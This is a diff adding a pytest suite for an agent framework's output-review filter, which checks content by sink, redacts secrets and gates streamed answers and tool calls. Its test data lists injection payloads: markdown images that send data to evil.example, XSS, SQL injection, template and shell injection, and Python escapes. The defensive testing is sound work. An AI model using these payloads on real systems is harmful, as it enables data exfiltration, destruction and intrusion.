@@ -1,0 +1,205 @@
+"""Output review: what is found at which sink, what becomes of it, and that an answer is shown only when judged."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from llmagent_os.core.errors import PermissionDenied
+from llmagent_os.core.records import NOTHING, Call, Chunk, GenerateRequest, Generation, Message, Question, Usage
+from llmagent_os.security.recognisers import recognise
+from llmagent_os.security.review import Action, Finding, Review, Rules, Sink
+from llmagent_os.security.vault import Vault
+
+FINE: list[tuple[Sink, str]] = [
+    ("markdown", "See [the docs](https://example.com) and ![ours](/chart.png) and ![a](https://cdn.example.com/a.png)"),
+    ("html", "<p>1 &lt; 2, <b>on time</b> = good</p><img src='/a.png'><a href=\"https://example.com/x\">x</a>"),
+    ("html", "if a < b and online=1 then c > d"),
+    ("sql", "SELECT name, 'it''s; -- fine' FROM t WHERE a = 1 OR b = 2;"),
+    ("template", "a { b } $5"), ("shell", "report 2024.txt"), ("code", "print(evaluate(1) + 2)  # os path"),
+    ("text", "<script>alert(1)</script> {{ x }}; rm -rf /"),
+]  # fmt: skip
+BAD: list[tuple[Sink, str, Action]] = [
+    ("markdown", "![x](https://evil.example/?q=secret)", "edit"),
+    ("markdown", "![x](<//evil.example/a.png> 'title')", "edit"),
+    ("markdown", "![x][1]\n[1]: https://evil.example/a.png", "edit"),
+    ("markdown", "[here]( javascript:alert(1))", "edit"),
+    ("html", "<script>alert(1)</script>", "edit"),
+    ("html", "<img/src=x/onerror=alert(1)>", "edit"),
+    ("html", "<a href='jav&#x61;script:alert(1)'>x</a>", "edit"),
+    ("html", "<a href='java\tscript:alert(1)'>x</a>", "edit"),
+    ("html", "<IMG SRC=https://evil.example/a.png>", "edit"),
+    ("html", "<p style=\"background:url(//evil.example)\">", "edit"),
+    ("html", "<iframe srcdoc='x'>", "edit"),
+    ("sql", "SELECT 1; DROP TABLE users", "ask"),
+    ("sql", "SELECT * FROM users WHERE name = 'x' OR 1=1 --'", "ask"),
+    ("sql", "SELECT a FROM b UNION ALL SELECT password FROM users", "ask"),
+    ("sql", "SELECT 1 /* hidden */", "ask"), ("sql", "SELECT 'open", "ask"), ("sql", "SELECT pg_sleep(9)", "ask"),
+    ("template", "{{ config.items() }}", "refuse"), ("template", "${7*7}", "refuse"), ("template", "<%= x %>", "refuse"),
+    ("shell", "a.txt; rm -rf /", "refuse"), ("shell", "$(id)", "refuse"), ("shell", "`id`", "refuse"),
+    ("shell", "a\nb", "refuse"),
+    ("shell", "--output=/etc/passwd", "refuse"), ("shell", "../../etc/passwd", "refuse"),
+    ("code", "__import__('os').system('id')", "ask"), ("code", "().__class__.__bases__", "ask"),
+    ("code", "import subprocess", "ask"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("sink", "text"), FINE)
+async def test_what_is_harmless_at_its_sink_passes(sink: Sink, text: str) -> None:
+    judged = await Review(Rules(hosts=("example.com",))).judge(text, sink)
+    assert (judged.action, judged.text, judged.findings) == ("allow", text, ())
+
+
+@pytest.mark.parametrize(("sink", "text", "action"), BAD)
+async def test_what_a_sink_would_act_on_is_found(sink: Sink, text: str, action: Action) -> None:
+    judged = await Review(Rules(hosts=("example.com",))).judge(text, sink)
+    assert judged.action == action and judged.findings[0].rule == sink
+    if action == "edit":
+        assert judged.text != text and (await Review().judge(judged.text, sink)).action == "allow"
+
+
+async def test_secrets_tokens_and_other_peoples_values_are_taken_out() -> None:
+    vault = Vault(b"k" * 32)
+    token = vault.token("t", "PHONE", "13912345678")
+    vault.token("t", "CARD", "4111 1111 1111 1111")
+    review = Review(vault=vault)
+    text = f"Key AKIAIOSFODNN7EXAMPLE, phone 13912345678, card 4111111111111111, {token}"
+    judged = await review.judge(text, "text", "t", known="my phone is 13912345678")
+    assert judged.text == "Key <KEY>, phone 13912345678, card <CARD>, <PHONE>"
+    assert [each.rule for each in judged.findings] == ["secret", "token", "vault"]
+    assert (await review.judge("card 4111111111111111", "text", "u", known="")).action == "allow"
+
+
+async def test_phrases_and_topics_are_whole_and_in_any_case() -> None:
+    rules = Rules(("Project X", "机密"), {"gambling": ("casino", "赌博")}, actions={"phrase": "edit"})
+    review = Review(rules)
+    assert (await review.judge("about project  x.", "text")).text == "about …."
+    assert (await review.judge("这是机密文件", "text")).text == "这是…文件"
+    assert (await review.judge("the CASINO, 赌博", "text")).action == "refuse"
+    assert (await review.judge("casinos, project xy", "text")).action == "allow"
+
+
+async def test_classifiers_and_judges_can_only_be_stricter() -> None:
+    asked: list[str] = []
+
+    async def judge(text: str, sink: Sink) -> Finding | None:
+        asked.append(text)
+        return Finding("rude", "it is rude", action="refuse") if "idiot" in text else None
+
+    def classify(text: str) -> list[Finding]:
+        return [Finding("advice", "it gives advice", action="ask")] if "invest" in text else []
+
+    review = Review(Rules(("forbidden",)), classifiers=[classify], judges=[judge])
+    verdicts = [(await review.judge(t, "text")).action for t in ("hi", "invest", "invest, idiot", "forbidden")]
+    assert verdicts == ["allow", "ask", "refuse", "refuse"] and asked == ["hi", "invest", "invest, idiot"]
+
+
+async def test_an_edit_without_a_place_is_a_refusal() -> None:
+    review = Review(Rules(actions={"sql": "edit"}))
+    assert (await review.judge("SELECT 1; SELECT 2", "sql")).action == "refuse"
+
+
+# -- at the door
+
+
+def call(name: str, **args: Any) -> Call:
+    """A call on its way."""
+    return Call(1, name, args, "key", "t", "p", 60.0)
+
+
+def process(service: str | None = None) -> Any:
+    """As much of a process as a filter looks at."""
+    return SimpleNamespace(pid=1, name="a", service=service)
+
+
+def answering(text: str) -> Callable[[Call], Any]:
+    """A handler of `generate` that streams a text word by word."""
+
+    async def proceed(passed: Call) -> Generation:
+        for word in text.split(" "):
+            if passed.stream is not None:
+                passed.stream(Chunk(word + " "))
+        if passed.stream is not None:
+            passed.stream(Chunk(finish="stop", usage=Usage(1, 2)))
+        return Generation(text + " ")
+
+    return proceed
+
+
+REQUEST = GenerateRequest("m", (Message("user", "hi"),))
+
+
+async def streamed(text: str, review: Review) -> tuple[Generation, list[Chunk], Call]:
+    """An answer under review and what its watcher saw."""
+    shown: list[Chunk] = []
+    made = call("generate", request=REQUEST)
+    made.stream = shown.append
+    return await review(made, process(), answering(text)), shown, made
+
+
+async def test_an_answer_that_is_fine_is_shown_as_it_came() -> None:
+    answer, shown, _ = await streamed("all is well", Review())
+    assert answer.text == "all is well "
+    assert shown[:4] == [NOTHING] * 4 and [c.text for c in shown[4:]] == ["all ", "is ", "well ", ""]
+
+
+async def test_an_answer_that_is_edited_is_shown_edited_only() -> None:
+    answer, shown, made = await streamed("use AKIAIOSFODNN7EXAMPLE now", Review())
+    assert answer.text == "use <KEY> now " == "".join(c.text for c in shown) and shown[-1].finish == "stop"
+    assert made.labels == ("review:edit:secret",)
+
+
+async def test_an_answer_that_is_refused_is_not_shown() -> None:
+    shown: list[Chunk] = []
+    made = call("generate", request=REQUEST)
+    made.stream = shown.append
+    with pytest.raises(PermissionDenied, match="phrase: forbidden"):
+        await Review(Rules(("forbidden",)))(made, process(), answering("a forbidden word"))
+    assert set(shown) == {NOTHING} and made.stream == shown.append
+
+
+class Boss:
+    """Approves of what it is told to, and remembers."""
+
+    def __init__(self, allows: bool) -> None:
+        self.allows, self.asked = allows, list[Question]()
+
+    async def ask(self, question: Question) -> bool:
+        self.asked.append(question)
+        return self.allows
+
+
+async def test_a_person_is_asked_with_the_text_in_question() -> None:
+    sinks: Callable[[str], dict[str, Sink]] = lambda tool: {"query": "sql"} if tool == "db" else {}  # noqa: E731
+    statement = "SELECT 1; DROP TABLE t"
+
+    async def proceed(passed: Call) -> Any:
+        return passed.args["arguments"]
+
+    boss = Boss(True)
+    made = call("call", tool="db", arguments={"query": statement, "other": ";"})
+    assert (await Review(approver=boss, sinks=sinks)(made, process(), proceed))["query"] == statement
+    assert boss.asked[0].tool == "db" and boss.asked[0].arguments == {"text": statement}
+    for refusing in (Review(approver=Boss(False), sinks=sinks), Review(sinks=sinks)):
+        with pytest.raises(PermissionDenied, match="more than one statement"):
+            await refusing(made, process(), proceed)
+    free = call("call", tool="notes", arguments={"query": statement})
+    assert await Review(sinks=sinks)(free, process(), proceed) == {"query": statement}
+
+
+async def test_what_an_agent_sends_is_edited_on_its_way_and_kept_as_it_was() -> None:
+    async def proceed(passed: Call) -> Any:
+        return passed.args["body"]
+
+    body = {"text": "![x](https://evil.example/?d=1)", "parts": [{"text": "fine"}, 5]}
+    made = call("send", to="task/1", body=body)
+    assert await Review()(made, process(), proceed) == {"text": "x", "parts": [{"text": "fine"}, 5]}
+    assert made.args["body"] is body
+    assert await Review()(made, process("api"), proceed) is body  # people may write what they like
+
+
+def test_no_secret_of_an_edit_is_left() -> None:
+    assert not recognise("use <KEY> now")
